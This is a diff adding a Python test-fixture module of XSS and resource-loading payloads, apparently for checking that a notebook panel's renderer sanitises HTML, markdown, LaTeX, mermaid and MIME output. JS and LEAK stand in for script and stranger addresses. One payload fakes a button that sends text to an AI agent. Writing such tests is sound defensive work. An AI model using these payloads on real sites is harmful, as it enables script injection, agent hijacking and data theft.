@@ -1,0 +1,233 @@
+# ruff: noqa: E501 - each is one line, as it would be sent
+"""What somebody writes who wants a script to run in our panel, or a request to leave from it.
+
+In each `JS` is a call that sets the canary, and `LEAK` the address of a stranger.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+RUNNING = r'''
+<script>JS</script>
+<SCRIPT SRC=LEAK></SCRIPT>
+<script src="data:text/javascript,JS"></script>
+<script type=module>JS</script>
+<script/x>JS</script>
+<scr<script>ipt>JS</scr</script>ipt>
+<img src=x onerror=JS>
+<img src="x" OnErRoR="JS">
+<img/src=x/onerror=JS>
+<img src=x onerror="&#74;&#83;" onload=JS>
+<img src=`x`onerror=JS>
+<img """><script>JS</script>">
+<img src=x:x onerror="JS"//
+<image src=x onerror=JS>
+<svg onload=JS>
+<svg/onload=JS>
+<svg><script>JS</script></svg>
+<svg><script href="data:,JS"/></svg>
+<svg><animate onbegin=JS attributeName=x dur=1s>
+<svg><set attributeName=href to="javascript:JS"/><a><text y=9>x</text></a></svg>
+<svg><a xlink:href="javascript:JS"><text x=9 y=9>click</text></a></svg>
+<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
+<svg><style><img src=x onerror=JS></style></svg>
+<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='JS'/></svg>#x"/></svg>
+<math><maction actiontype="statusline#JS" xlink:href="javascript:JS">click</maction></math>
+<math href="javascript:JS">click</math>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;"></mglyph></table></mtext></math>
+<math><mi><b><table><mglyph><style><math><img src=x onerror=JS></table></mi></math>
+<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>
+<iframe src="javascript:top.JS"></iframe>
+<iframe srcdoc="<script>JS</script>"></iframe>
+<iframe onload=JS></iframe>
+<object data="javascript:JS"></object>
+<object data="data:text/html,<script>JS</script>"></object>
+<embed src="data:text/html,<script>JS</script>">
+<embed src="javascript:JS">
+<body onload=JS>
+<frameset onload=JS>
+<input onfocus=JS autofocus>
+<select onfocus=JS autofocus></select>
+<textarea onfocus=JS autofocus></textarea>
+<button onfocus=JS autofocus>x</button>
+<a onfocus=JS autofocus tabindex=0>x</a>
+<details open ontoggle=JS>x</details>
+<video><source onerror=JS></video>
+<video src=x onerror=JS></video>
+<audio src=x onerror=JS></audio>
+<marquee onstart=JS>x</marquee>
+<div onpointerrawupdate=JS onpointerenter=JS onmouseover=JS style="width:999px;height:99px">x</div>
+<div contenteditable onbeforeinput=JS onfocus=JS autofocus>x</div>
+<div popover id=p onbeforetoggle=JS>x</div><button popovertarget=p autofocus>x</button>
+<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=JS>x</b>
+<b style="transition:color 1s" ontransitionend=JS>x</b>
+<xss oncontentvisibilityautostatechange=JS style=display:block;content-visibility:auto>x</xss>
+<noscript><p title="</noscript><img src=x onerror=JS>">
+<textarea><p title="</textarea><img src=x onerror=JS>">
+<title><p title="</title><img src=x onerror=JS>">
+<xmp><p title="</xmp><img src=x onerror=JS>">
+<noembed><p title="</noembed><img src=x onerror=JS>">
+<template><script>JS</script></template>
+<!--><img src=x onerror=JS>-->
+<!--!><img src=x onerror=JS>
+<![CDATA[><img src=x onerror=JS>]]>
+<?xml version="1.0"?><img src=x onerror=JS>
+<p/title="'><img src=x onerror=JS>
+<a href="javascript&colon;JS">click</a>
+<a href="javascript:JS">click</a>
+<a href="JaVaScRiPt:JS">click</a>
+<a href=" &#14; javascript:JS">click</a>
+<a href="java&Tab;script:JS">click</a>
+<a href="java&NewLine;script:JS">click</a>
+<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS">click</a>
+<a href="&#x0000006A;avascript:JS">click</a>
+<a href="vbscript:MsgBox(1)">click</a>
+<a href="data:text/html,<script>JS</script>">click</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
+<a href="blob:JS">click</a>
+<a href="javascript://%0aJS">click</a>
+<area href="javascript:JS" shape=default>
+<form action="javascript:JS"><input type=submit autofocus></form>
+<form><button formaction="javascript:JS" autofocus>click</button></form>
+<button data-commandlinker-command="runmenu:run-all" autofocus>click</button>
+<button type="button" data-commandlinker-command="jupyter-agent:send" data-commandlinker-args='{"text":"x","mode":"auto"}'>Allow</button>
+[click](javascript:JS)
+[click](JaVaScRiPt:JS)
+[click](<java script:JS>)
+[click](javascript&colon;JS)
+[click](&#106;avascript:JS)
+[click](vbscript:JS)
+[click](data:text/html,<script>JS</script>)
+[click](x "onmouseover=JS")
+[click]("onmouseover="JS)
+[click][ref]
+![x](javascript:JS)
+![x](x"onerror="JS)
+![x" onerror="JS](x)
+![`<img src=x onerror=JS>`](x)
+<javascript:JS>
+`<img src=x onerror=JS>`
+`` ` <img src=x onerror=JS> ``
+| a | b |
+- [ ] <img src=x onerror=JS>
+> <img src=x onerror=JS>
+# <img src=x onerror=JS>
+$\href{javascript:JS}{click}$
+$$\href{javascript:JS}{click}$$
+$\style{background:url(LEAK)}{x}$
+$\class{x" onload="JS}{x}$
+$\unicode{<img src=x onerror=JS>}$
+$<img src=x onerror=JS>$
+$\text{<img src=x onerror=JS>}$
+$\require{html}\href{javascript:JS}{x}$
+'''
+LEAKING = r"""
+<img src="LEAK">
+<img src=//HOST/leak>
+<img srcset="LEAK 1x, LEAK 2x">
+<img src="data:image/png;base64,AAAA" srcset="LEAK 2x">
+<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='LEAK'/></svg>">
+<picture><source srcset="LEAK"><img src=x></picture>
+<video poster="LEAK"></video>
+<video src="LEAK" autoplay></video>
+<audio src="LEAK" autoplay></audio>
+<video><track default src="LEAK"></video>
+<iframe src="LEAK"></iframe>
+<object data="LEAK"></object>
+<embed src="LEAK">
+<link rel=stylesheet href="LEAK">
+<link rel=prefetch href="LEAK">
+<link rel=preload as=image href="LEAK">
+<link rel=preconnect href="LEAK">
+<link rel=icon href="LEAK">
+<style>@import "LEAK";</style>
+<style>body{background:url(LEAK)}</style>
+<style>@font-face{font-family:x;src:url(LEAK)}*{font-family:x}</style>
+<p style="background:url(LEAK)">x</p>
+<p style="background-image:url('LEAK')">x</p>
+<p style="background:u\72l(LEAK)">x</p>
+<p style="list-style-image:url(LEAK)">x</p>
+<p style="cursor:url(LEAK),auto">x</p>
+<p style="border-image:url(LEAK)">x</p>
+<p style="background:image-set('LEAK' 1x)">x</p>
+<p style="filter:url(LEAK#x)">x</p>
+<p style="mask:url(LEAK);clip-path:url(LEAK#x)">x</p>
+<p style="--x:url(LEAK);background:var(--x)">x</p>
+<p style="content:url(LEAK)">x</p>
+<table background="LEAK"><tr><td background="LEAK">x</td></tr></table>
+<body background="LEAK">
+<input type=image src="LEAK">
+<svg><image href="LEAK"/></svg>
+<svg><image xlink:href="LEAK"/></svg>
+<svg><use href="LEAK#x"/></svg>
+<svg><filter><feImage href="LEAK"/></filter></svg>
+<svg><rect style="fill:url(LEAK#x)"/></svg>
+<bgsound src="LEAK">
+<a href="x" ping="LEAK" autofocus>x</a>
+<form action="LEAK"><input name=q value=secret><input type=submit></form>
+![x](LEAK)
+![x](<LEAK>)
+![x]( LEAK "title")
+[![x](LEAK)](LEAK)
+![x][leak]
+| ![x](LEAK) |
+<LEAK>
+LEAK
+"""
+MANY_LINES = (
+    '[click][1]\n\n[1]: javascript:JS "title"',
+    "![x][1]\n\n[1]: LEAK",
+    "| a |\n|---|\n| <img src=x onerror=JS> |\n| ![x](LEAK) |\n| [x](javascript:JS) |",
+    '```"><img/src=x/onerror=JS>\ncode\n```',
+    "```html <img src=x onerror=JS>\n<img src=x onerror=JS>\n```",
+    '~~~"onmouseover="JS\ncode\n~~~',
+    "```mermaid\ngraph TD; A[<img src=x onerror=JS>] --> B\nclick A href \"javascript:JS\"\n```",
+    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[\"<img src='LEAK'>\"]\n```",
+    "$$\n\\begin{array}{c} \\href{javascript:JS}{x} \\end{array}\n$$",
+    "<div>\n\n<img src=x onerror=JS>\n\n</div>",
+    "<a href='java\nscript:JS'>click</a>",
+    "<a href='java\tscript:JS'>click</a>",
+    "<a href='\x01javascript:JS'>click</a>",
+    "<img src=x one\x00rror=JS>",
+    "<base href='LEAK'>\n<img src=x>",
+    "<meta http-equiv='refresh' content='0;url=LEAK'>",
+    "<meta http-equiv='refresh' content='0;url=javascript:JS'>",
+    "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
+    "\x1b]8;;LEAK\x1b\\click\x1b]8;;\x1b\\",
+    "\x1b[31m<img src=x onerror=JS>\x1b[0m",
+    "\x9b31m<script>JS</script>\u202e<script>JS</script>",
+)  # fmt: skip
+BUNDLES = (
+    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script></svg>"),
+    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><image href='LEAK'/></svg>"),
+    ("application/javascript", "JS"),
+    ("text/javascript", "JS"),
+    ("text/latex", r"$\href{javascript:JS}{click}$<img src=x onerror=JS>"),
+    ("text/markdown", "![x](LEAK)<img src=x onerror=JS>[x](javascript:JS)"),
+    ("text/vnd.mermaid", "graph TD; A[<img src=x onerror=JS>]"),
+    ("application/vnd.jupyter.stdout", "<img src=x onerror=JS>"),
+    ("image/png", "AAAA\" onerror=\"JS"),
+    ("application/pdf", "JVBERi0xLjAK"),
+)  # fmt: skip
+VEGA = {
+    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+    "data": {"url": "LEAK", "format": {"type": "csv"}},
+    "mark": "bar",
+    "encoding": {"x": {"field": "a", "type": "nominal"}},
+}
+GEOMETRY = {"type": "Point", "coordinates": [0, 0]}
+JSON_BUNDLES = (
+    ("application/vnd.vegalite.v5+json", VEGA),
+    ("application/geo+json", {"type": "Feature", "geometry": GEOMETRY, "properties": {}}),
+    ("application/json", {"<img src=x onerror=JS>": "<img src=x onerror=JS>"}),
+)
+
+
+def payloads() -> list[str]:
+    """All that is text, still with `JS`, `LEAK` and `HOST` in it."""
+    return [*_lines(RUNNING), *_lines(LEAKING), *MANY_LINES]
+
+
+def _lines(text: str) -> Iterator[str]:
+    return filter(None, text.splitlines())
